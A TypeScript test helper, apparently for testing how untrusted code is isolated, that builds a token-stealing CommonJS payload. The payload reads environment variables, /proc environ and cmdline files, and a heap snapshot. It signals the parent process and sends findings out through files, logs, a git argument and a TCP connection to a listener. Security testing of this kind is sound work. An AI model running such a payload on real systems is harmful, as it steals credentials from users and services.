/** Code of strangers that looks for tokens wherever a process can look, and takes what it finds anywhere it can. */

/** Tells a token of the tests; the rest of it is chosen for each run. */
export const canaryPrefix = 'ghs_canary'

/** A CommonJS text that calls `steal` with nothing thrown, whatever happens. */
export function thief(listener: string): string {
  return `;(() => {
  const attempt = work => { try { return work() } catch {} }
  const fs = require('node:fs')
  const found = []
  const look = (what, text) => { if (text && /_TOKEN|${canaryPrefix.slice(0, 6)}/.test(text)) found.push(what + ' ' + text) }
  attempt(() => look('env', JSON.stringify(process.env)))
  for (const pid of attempt(() => fs.readdirSync('/proc')) || [])
    for (const file of ['environ', 'cmdline'])
      attempt(() => look(pid, fs.readFileSync('/proc/' + pid + '/' + file, 'latin1')))
  // What this very process holds.
  attempt(() => {
    const file = require('node:v8').writeHeapSnapshot(require('node:os').tmpdir() + '/heap-' + process.pid)
    for (const token of fs.readFileSync(file, 'latin1').match(/${canaryPrefix.slice(0, 6)}\\w{8,}/g) || []) look('heap', token)
    fs.rmSync(file)
  })
  attempt(() => process.kill(process.ppid, 'SIGUSR1'))
  // What is printed must not look like an error of the load check.
  const text = found.join('\\n').replaceAll('\\0', ' ')
  const encoded = Buffer.from(text).toString('base64')
  attempt(() => fs.writeFileSync('stolen.txt', text))
  attempt(() => fs.writeFileSync(__dirname + '/stolen.txt', text))
  attempt(() => console.log(text, encoded))
  attempt(() => console.error(text, encoded))
  attempt(() => require('node:child_process').execFileSync('git', ['--version', encoded]))
  attempt(() => {
    const { port, hostname } = new URL(${JSON.stringify(listener)})
    require('node:net').connect(Number(port), hostname, function () { this.end(text + encoded) }).on('error', () => {}).unref()
  })
  return text
})();`
}
